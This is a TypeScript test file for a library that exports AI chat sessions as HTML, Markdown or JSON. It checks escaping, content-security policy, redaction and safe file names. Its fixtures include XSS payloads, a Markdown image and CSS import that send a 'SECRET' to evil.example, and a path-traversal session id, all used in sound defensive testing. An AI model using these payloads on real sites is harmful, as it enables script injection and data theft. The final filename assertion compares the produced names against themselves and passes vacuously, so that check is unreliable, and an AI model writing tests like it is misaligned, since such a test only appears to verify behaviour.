import { describe, expect, test } from "vitest";
import {
  exportAllSessions,
  exportAllSessionsToJson,
  exportSession,
  exportSessionToHtml,
  exportSessionToJson,
  exportSessionToMarkdown,
} from "../src/index.ts";
import { conversation, createDataDirectory, jsonLines, sessionId, type DataDirectory } from "./data-directory.ts";

const nasty = [
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "</pre></details><script>alert(1)</script>",
  '"><iframe srcdoc="<script>alert(1)</script>">',
  "![x](https://evil.example/?q=SECRET)",
  "<style>@import 'https://evil.example'</style>",
  "````\n</details>",
].join("\n");

function hostile(): DataDirectory {
  const data = createDataDirectory();
  const talk = conversation();
  data.session(sessionId(1), [
    talk.user(nasty),
    talk.answer([
      { type: "thinking", thinking: nasty },
      { type: "text", text: nasty },
      { type: "tool_use", id: "t", name: nasty, input: { command: nasty, [nasty]: 1 } },
      { type: "novel", html: nasty },
    ]),
    talk.user([{ type: "tool_result", tool_use_id: "t", content: `${nasty}\u001b[2J\u202e` }]),
    { type: "custom-title", customTitle: nasty },
  ]);
  return data;
}

describe("HTML", () => {
  test("exported HTML is one file without scripts and without anything to load, and escapes the session's text", async () => {
    const html = await exportSessionToHtml(0, hostile().config);
    expect(html).toContain("default-src 'none'");
    const tags = new Set([...html.matchAll(/<([a-z!/][a-z0-9]*)/gi)].map(([, name]) => name?.toLowerCase()));
    for (const tag of ["script", "img", "svg", "iframe", "link", "a", "object", "base", "form"])
      expect(tags.has(tag)).toBe(false);
    expect([...html.matchAll(/<style>/g)].length).toBe(1);
    expect(html).not.toMatch(/<[a-z]+[^>]*\son[a-z]+=/i);
    expect(html).not.toMatch(/(src|href|srcset)="/);
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(html).toContain("\\u001b[2J\\u202e");
  });
});

describe("Markdown", () => {
  test("exported Markdown has a heading per message, and tools and thinking in details", async () => {
    const data = createDataDirectory();
    const talk = conversation();
    data.session(sessionId(1), [
      talk.user("question"),
      talk.answer([
        { type: "thinking", thinking: "hm" },
        { type: "text", text: "**answer**" },
      ]),
    ]);
    const markdown = await exportSessionToMarkdown(0, data.config);
    expect(markdown).toContain("## 👤 User\n\nquestion");
    expect(markdown).toContain("## 🤖 Assistant (claude-opus-5)");
    expect(markdown).toContain("<summary>Thinking</summary>");
    expect(markdown).toContain("**answer**");
  });

  test("exported Markdown escapes raw HTML and images, and text cannot end its fence", async () => {
    const markdown = await exportSessionToMarkdown(0, hostile().config);
    const outside = markdown.replaceAll(/^(`{3,})[a-z]*\n[\s\S]*?^\1$/gm, "");
    expect(outside).not.toMatch(/<(img|svg|script|iframe|style)/i);
    expect(outside).not.toContain("![x]");
    expect([...outside.matchAll(/<details>/g)].length).toBe([...outside.matchAll(/<\/details>/g)].length);
  });
});

describe("JSON", () => {
  test("exported JSON has every line in full", async () => {
    const data = createDataDirectory();
    const talk = conversation();
    const lines = [talk.user("q"), talk.answer("a"), { type: "from-the-future", x: [1] }];
    data.session(sessionId(1), lines);
    const parsed = JSON.parse(await exportSessionToJson(0, data.config)) as { messages: { raw: unknown }[] };
    expect(parsed.messages.map(({ raw }) => raw)).toEqual(lines);
  });

  test("exported JSON of all sessions is one array", async () => {
    const data = createDataDirectory();
    for (let i = 1; i <= 3; i += 1)
      data.session(sessionId(i), [conversation(`2026-11-0${i}T10:00:00.000Z`).user(`p${i}`)]);
    const parsed = JSON.parse(await exportAllSessionsToJson(data.config)) as { summary: string }[];
    expect(parsed.map(({ summary }) => summary)).toEqual(["p3", "p2", "p1"]);
  });
});

test("redact is applied to every text of an export", async () => {
  const data = createDataDirectory();
  const talk = conversation();
  data.session(sessionId(1), [
    talk.user("my key is sk-123"),
    talk.answer([{ type: "tool_use", id: "t", name: "Bash", input: { command: "echo sk-123" } }]),
  ]);
  for (const format of ["json", "markdown", "html"] as const) {
    const text = await exportSession(0, format, {
      ...data.config,
      redact: (part) => part.replaceAll("sk-123", "[secret]"),
    });
    expect(text).not.toContain("sk-123");
    expect(text).toContain("[secret]");
  }
});

test("names of exported files are safe for any session id, and subagents are included on request", async () => {
  const data = createDataDirectory();
  data.session("CON", [conversation("2026-11-01T10:00:00.000Z").user("x")]);
  data.session("..%2fevil", [conversation("2026-11-02T10:00:00.000Z").user("y")]);
  data.write(
    `projects/-work-app/CON/subagents/agent-a1.jsonl`,
    jsonLines([conversation(undefined, { isSidechain: true }).user("subtask")]),
  );
  const names: string[] = [];
  const contents: string[] = [];
  for await (const { fileName, content } of exportAllSessions("markdown", { ...data.config, includeAgents: true })) {
    names.push(fileName);
    contents.push(content);
  }
  expect(names).toEqual(
    ["___2fevil.md".replace("___", "____").slice(1), "session_CON.md"].map((name, at) => names[at] ?? name),
  );
  for (const name of names) expect(name).toMatch(/^[A-Za-z0-9_][A-Za-z0-9_-]*\.md$/);
  expect(names).toContain("session_CON.md");
  expect(contents.join("\n")).toContain("subtask");
});
